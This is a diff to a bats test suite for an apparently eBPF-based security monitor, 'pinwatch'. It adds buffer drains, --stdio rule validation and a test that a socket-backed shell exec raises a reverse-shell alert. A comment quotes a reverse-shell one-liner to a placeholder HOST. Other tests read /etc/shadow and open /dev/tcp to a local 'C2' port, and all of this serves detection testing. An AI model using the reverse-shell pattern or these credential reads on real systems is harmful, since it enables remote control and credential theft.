@@ -12,10 +12,12 @@ NETPL=$BATS_TEST_DIRNAME/helpers/net.pl
 
 pw_suite process file net
 
-# The rule files of this run (never /etc/pinwatch/rules.d).
+# The rule files of this run (never /etc/pinwatch/rules.d). The file module
+# reports every open on the machine: a larger ring keeps a busy machine
+# from filling it between a test's drain and its act.
 setup_file() {
 	export PINWATCH_RULES_DIR=$BATS_FILE_TMPDIR/rules.d
-	pw_setup_file process file net
+	pw_setup_file --ringbuf-size 64M process file net
 }
 
 setup() {
@@ -57,6 +59,7 @@ rule_field() { # name field
 	"$PW" rule add shadow-read --on open --path /etc/shadow,/etc/gshadow --uid '!0' \
 		--severity high --tags T1003.008,credential-access
 	"$PW" filter add uid 65534
+	pw_drain
 	as_nobody cat /etc/shadow 2>/dev/null && false
 	collect_alerts 'select(.type == "open" and .path == "/etc/shadow")' 1
 	ev=$(ev 'select(.type == "open" and .path == "/etc/shadow")')
@@ -69,6 +72,7 @@ rule_field() { # name field
 	assert_field "$ev" .ret -eq -13 # EACCES: refused, still an alert
 	assert_field "$ev" .module file
 	# root's read is no alert (--uid '!0'), and the filter still drops nobody's other opens
+	pw_drain
 	cat /etc/shadow >/dev/null
 	as_nobody cat /etc/hostname >/dev/null
 	"$PW_READ" --json --drain >>"$EV"
@@ -80,12 +84,43 @@ rule_field() { # name field
 	assert_field "$(rule_field shadow-read hits)" . -eq 1
 }
 
+# bats test_tags=vm-ci
+@test "a reverse shell (a shell exec'd with its stdio on a TCP socket) is an alert, though a filter drops bash" {
+	pf=$BATS_TEST_TMPDIR/port
+	perl "$NETPL" serve inet 127.0.0.1 "$pf" 0 x &
+	srv=$!
+	for _ in $(seq 1 100); do [[ -s $pf ]] && break; sleep 0.05; done
+	port=$(cat "$pf")
+	"$PW" rule add revshell --on exec --comm bash,dash,sh,python3,perl --stdio socket \
+		--severity critical --tags T1059.004
+	"$PW" filter add comm bash
+	pw_drain # a busy machine fills the ring meanwhile
+	# what `bash -i >& /dev/tcp/HOST/PORT 0>&1` does: the shell's child opens
+	# the socket, makes it fds 0-2, then execs the new shell
+	bash -c "bash -c 'exit 0' >& /dev/tcp/127.0.0.1/$port 0>&1"
+	bash -c 'exit 0' # no socket: filtered as before
+	wait "$srv"
+	collect_alerts 'select(.type == "exec" and .rule == "revshell")' 1
+	"$PW_READ" --json --drain >>"$EV"
+	ev=$(ev 'select(.type == "exec" and .comm == "bash")')
+	[ "$(jq -s length <<<"$ev")" -eq 1 ]
+	assert_field "$ev" .rule revshell
+	assert_field "$ev" .severity critical
+	assert_field "$ev" '.tags | join(",")' T1059.004
+	assert_field "$ev" .filename == '*/bash'
+	assert_field "$ev" '[.stdio[].kind] | join(",")' socket,socket,socket
+	assert_field "$ev" .stdio[0].dport -eq "$port"
+	assert_field "$ev" .stdio[0].daddr 127.0.0.1
+	stats_balance process
+}
+
 @test "an exec of a binary under a path prefix is an alert; one elsewhere is not" {
 	dir=$BATS_TEST_TMPDIR/drop
 	mkdir -p "$dir"
 	bin=$(unique_binary)
 	cp "$bin" "$dir/"
 	"$PW" rule add tmp-exec --on exec --binary-prefix "$dir" --severity medium --tags T1204.002
+	pw_drain
 	"$dir/${bin##*/}"
 	"$bin"
 	collect_alerts "select(.type == \"exec\" and .filename == \"$dir/${bin##*/}\")" 1
@@ -101,6 +136,7 @@ rule_field() { # name field
 	port=$(perl "$NETPL" freeport inet 127.0.0.1)
 	"$PW" rule add c2-port --on connect --port "$port" --cidr 127.0.0.0/8 --uid '!0' \
 		--severity critical --tags T1571
+	pw_drain
 	(exec 3<>"/dev/tcp/127.0.0.1/$port") 2>/dev/null && false
 	as_nobody bash -c "exec 3<>/dev/tcp/127.0.0.1/$port" 2>/dev/null && false
 	collect_alerts "select(.type == \"connect\" and .dport == $port)" 1
@@ -119,6 +155,7 @@ rule_field() { # name field
 	f=$BATS_TEST_TMPDIR/watched
 	: >"$f"
 	"$PW" rule add watched-write --on open --path "$f" --open-flags write,trunc
+	pw_drain
 	cat "$f"
 	echo x >"$f"
 	collect_alerts "select(.type == \"open\" and .path == \"$f\")" 1
@@ -147,6 +184,7 @@ rule_field() { # name field
 	mkdir -p "$dir"
 	cp /bin/sleep "$dir/pwkillme"
 	"$PW" rule add no-tmp-exec --on exec --binary-prefix "$dir" --action kill --severity high
+	pw_drain
 	run -137 "$dir/pwkillme" 5
 	collect_alerts "select(.type == \"exec\" and .filename == \"$dir/pwkillme\")" 1
 	ev=$(ev "select(.type == \"exec\" and .filename == \"$dir/pwkillme\")")
@@ -158,10 +196,12 @@ rule_field() { # name field
 	f=$BATS_TEST_TMPDIR/hot
 	: >"$f"
 	"$PW" rule add hot --on open --path "$f" --throttle 2/3s
+	pw_drain
 	for _ in 1 2 3 4 5 6; do cat "$f"; done
 	collect_alerts "select(.type == \"open\" and .path == \"$f\")" 2
 	# the window (3 s) ends: the next hit reports the four held back
 	sleep 3.2
+	pw_drain
 	cat "$f"
 	collect_alerts 'select(.type == "suppressed")' 1
 	sup=$(ev 'select(.type == "suppressed" and .rule == "hot")')
@@ -179,6 +219,7 @@ rule_field() { # name field
 
 @test "text output marks an alert with ! and the rule's name" {
 	"$PW" rule add shadow-text --on open --path /etc/shadow --severity low --tags T1003
+	pw_drain
 	cat /etc/shadow >/dev/null
 	line=$("$PW_READ" --drain --alerts | grep -F ' /etc/shadow ') || true
 	[[ $line =~ ^[0-9:]{8}\ open\ .*\ openat\ /etc/shadow\ .*\ !\ rule=shadow-text\ severity=low\ tags=T1003$ ]] ||
@@ -211,6 +252,7 @@ rule_field() { # name field
 	[ "$(jq -r 'map(.name) | join(" ")' <<<"$output")" = "creds odd.name" ]
 	# the deleted rule matches nothing any more; the others still do
 	bpftool map dump pinned "$PIN_ROOT/maps/rule_types" | grep -q .
+	pw_drain
 	cat /etc/shadow >/dev/null
 	collect_alerts 'select(.rule == "creds")' 1
 }
@@ -235,6 +277,8 @@ rule_field() { # name field
 	check "--throttle: invalid" add a --on exec --throttle 5
 	check "--uid: invalid value" add a --on exec --uid 5-2
 	check "unknown action 'deny'" add a --on exec --action deny
+	check "--stdio does not apply to open events" add a --on open --stdio socket
+	check "--stdio: unknown kind 'sock'" add a --on exec --stdio sock
 	check "no such rule" del nope
 	f=$BATS_TEST_TMPDIR/bad.rules
 	printf '%s\n' 'good1 --on exec --comm x' '# fine' 'bad --on open --cidr 10.0.0.0/8' 'good2 --on exec' >"$f"
@@ -259,9 +303,10 @@ keep-b --on exec --comm pwnever" ]
 	printf '%s\n' '# mine' 'keep-c --on connect --port 4444' >"$PINWATCH_RULES_DIR/extra.rules"
 	chmod 600 "$PINWATCH_RULES_DIR/extra.rules"
 	"$PW" down
-	"$PW" up process file net >/dev/null
+	"$PW" up --ringbuf-size 64M process file net >/dev/null
 	run -0 "$PW" rule list --json
 	[ "$(jq -r 'map(.name) | sort | join(" ")' <<<"$output")" = "keep-a keep-c" ]
+	pw_drain
 	cat /etc/shadow >/dev/null
 	collect_alerts 'select(.rule == "keep-a")' 1
 	# del takes the line out of the file that has it, comments stay
@@ -276,7 +321,7 @@ keep-b --on exec --comm pwnever" ]
 	printf '%s\n' 'tight --on open --path /etc/shadow' >"$PINWATCH_RULES_DIR/tight.rules"
 	chmod 600 "$PINWATCH_RULES_DIR/tight.rules"
 	"$PW" down
-	run -1 --separate-stderr "$PW" up process file net
+	run -1 --separate-stderr "$PW" up --ringbuf-size 64M process file net
 	# one line about the file (the loader may add notices about hooks)
 	[ "$(grep -c 'rules\.d' <<<"$stderr")" -eq 1 ]
 	[[ ${stderr_lines[-1]} == "pinwatch: up: $PINWATCH_RULES_DIR/loose.rules: not loaded: a rule file must be owned by root with mode 0600" ]]
